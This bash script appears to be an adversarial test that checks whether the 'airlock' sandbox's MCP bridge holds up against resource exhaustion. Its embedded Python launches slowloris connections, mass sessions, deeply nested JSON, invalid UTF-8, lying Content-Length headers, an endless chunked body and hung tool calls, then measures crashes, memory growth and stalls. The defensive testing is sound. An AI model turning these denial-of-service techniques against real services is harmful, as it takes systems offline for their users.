#!/bin/bash
# Hang, crash or exhaust the bridge from inside: first-use spawn race (30 parallel initialize),
# 3000 sessions, 600 idle/slowloris connections, 100 GET SSE streams, deep-nested JSON, invalid
# UTF-8, oversized / lying Content-Length, endless chunked body, 40 hung tool calls.
# Got through if the bridge dies, its RSS grows > 400 MiB, more than one server process is spawned,
# or a second sandbox's MCP call / `airlock ls` stalls > 10 s during the attack.
source "$(dirname "$0")/lib.sh"
write_mcp_hcl ''
SBNAME=a write_sandbox 'mcp "atk" {}'
SBNAME=a up || die "up a"
mkdir -p "$T/repo2"; ( cd "$T/repo2"; git init -q . )
printf 'sandbox "b" {\n backend = "namespace"\n memory = "512MiB"\n workspace { mode = "mountless" }\n mcp "atk" {}\n}\n' > "$T/repo2/sandbox.hcl"
( cd "$T/repo2" && timeout 60 airlock up -f sandbox.hcl --yes ) >"$T/upb" 2>&1 || die "up b"
BPID=$(cat "$AIRLOCK_HOME/bridge.lock" | tr -dc 0-9); rss0=$(awk '/VmRSS/{print $2}' /proc/$BPID/status)
echo "bridge pid $BPID rss ${rss0}kB"
timeout 55 airlock exec a -- /usr/bin/python3 -c "$CLIENT
import threading, socket, json, time, resource
resource.setrlimit(resource.RLIMIT_NOFILE,(4096,4096)) if resource.getrlimit(resource.RLIMIT_NOFILE)[1]>=4096 else None
INIT={'jsonrpc':'2.0','id':1,'method':'initialize','params':{'protocolVersion':'2025-03-26','capabilities':{},'clientInfo':{'name':'x','version':'1'}}}
ths=[threading.Thread(target=lambda: post('/mcp/atk',INIT)) for i in range(30)]; [x.start() for x in ths]; [x.join() for x in ths]
print('race done')
def many(n):
    for i in range(n):
        try: post('/mcp/atk',INIT)
        except Exception as e: pass
ths=[threading.Thread(target=many,args=(300,)) for i in range(10)]; [x.start() for x in ths]; [x.join() for x in ths]
print('3000 sessions done')
socks=[]
for i in range(600):
    try:
        s=socket.create_connection(('127.0.0.1',8551),timeout=5); s.sendall(b'POST /mcp/atk HTTP/1.1\r\nHost: x\r\nContent-Length: 100000\r\n'); socks.append(s)
    except Exception as e: print('sock',i,e); break
print('slowloris', len(socks))
sid,_,_=init()
for i in range(100):
    try:
        s=socket.create_connection(('127.0.0.1',8551),timeout=5); s.sendall(b'GET /mcp/atk HTTP/1.1\r\nHost: x\r\nAccept: text/event-stream\r\nMcp-Session-Id: '+sid.encode()+b'\r\n\r\n'); socks.append(s)
    except Exception as e: print('sse',e); break
def raw(b):
    try:
        s=socket.create_connection(('127.0.0.1',8551),timeout=8); s.sendall(b); s.settimeout(8); d=s.recv(200); s.close(); return d[:60]
    except Exception as e: return str(e)
hdr=lambda n: b'POST /mcp/atk HTTP/1.1\r\nHost: 127.0.0.1:8551\r\nContent-Type: application/json\r\nAccept: application/json, text/event-stream\r\nMcp-Session-Id: '+sid.encode()+b'\r\nContent-Length: '+str(n).encode()+b'\r\n\r\n'
deep=b'['*200000+b']'*200000
print('deep', raw(hdr(len(deep))+deep[:1000000]))
deep2=b'{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"tools/call\",\"params\":{\"name\":\"echo\",\"arguments\":'+b'{\"a\":'*60000+b'1'+b'}'*60000+b'}}'
print('deep-args', raw(hdr(len(deep2))+deep2))
bad=b'{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"tools/call\",\"params\":{\"name\":\"ec\xff\xfeho\",\"arguments\":{}}}'
print('badutf8', raw(hdr(len(bad))+bad))
print('bigCL', raw(hdr(10**12)+b'{'))
print('negCL', raw(hdr(-1)+b'{}'))
def chunked():
    try:
        s=socket.create_connection(('127.0.0.1',8551),timeout=10)
        s.sendall(b'POST /mcp/atk HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n')
        c=b'100000\r\n'+b' '*0x100000+b'\r\n'
        for i in range(64): s.sendall(c)
        return 'sent 64MiB'
    except Exception as e: return 'chunked stopped: '+str(e)
print(chunked())
def hang():
    try: post('/mcp/atk',{'jsonrpc':'2.0','id':9,'method':'tools/call','params':{'name':'sleep','arguments':{'s':25}}},sid)
    except Exception as e: pass
hs=[threading.Thread(target=hang,daemon=True) for i in range(40)]; [x.start() for x in hs]
time.sleep(12)
print('holding', len(socks))
" > "$T/a.out" 2>&1 &
APID=$!
sleep 20
rssmax=0; stall=0
for i in 1 2 3; do
  t0=$(date +%s); timeout 10 airlock ls >/dev/null 2>&1 || stall=1
  timeout 10 airlock exec b -- /usr/bin/python3 -c "$CLIENT
sid,_,_=init(); print(post('/mcp/atk',{'jsonrpc':'2.0','id':2,'method':'tools/call','params':{'name':'echo','arguments':{}}},sid)[2][:60])" >/dev/null 2>&1 || stall=1
  echo "probe $i: $(( $(date +%s)-t0 ))s stall=$stall"
  r=$(awk '/VmRSS/{print $2}' /proc/$BPID/status 2>/dev/null); [ -n "$r" ] && [ "$r" -gt "$rssmax" ] && rssmax=$r
  sleep 3
done
wait $APID
cat "$T/a.out" | tail -15
alive=1; kill -0 $BPID 2>/dev/null || alive=0
starts=$(grep -c '"start"' "$REC")
echo "bridge alive=$alive rss max ${rssmax}kB (start ${rss0}kB) server starts=$starts (2 sandboxes) stall=$stall"
timeout 30 airlock rm --force b >/dev/null 2>&1
got=0
[ $alive = 0 ] && got=1
[ "$rssmax" -gt $((400*1024)) ] && got=1
[ "$starts" -gt 2 ] && got=1
[ $stall = 1 ] && got=1
[ $got = 1 ] && gotthrough
defended
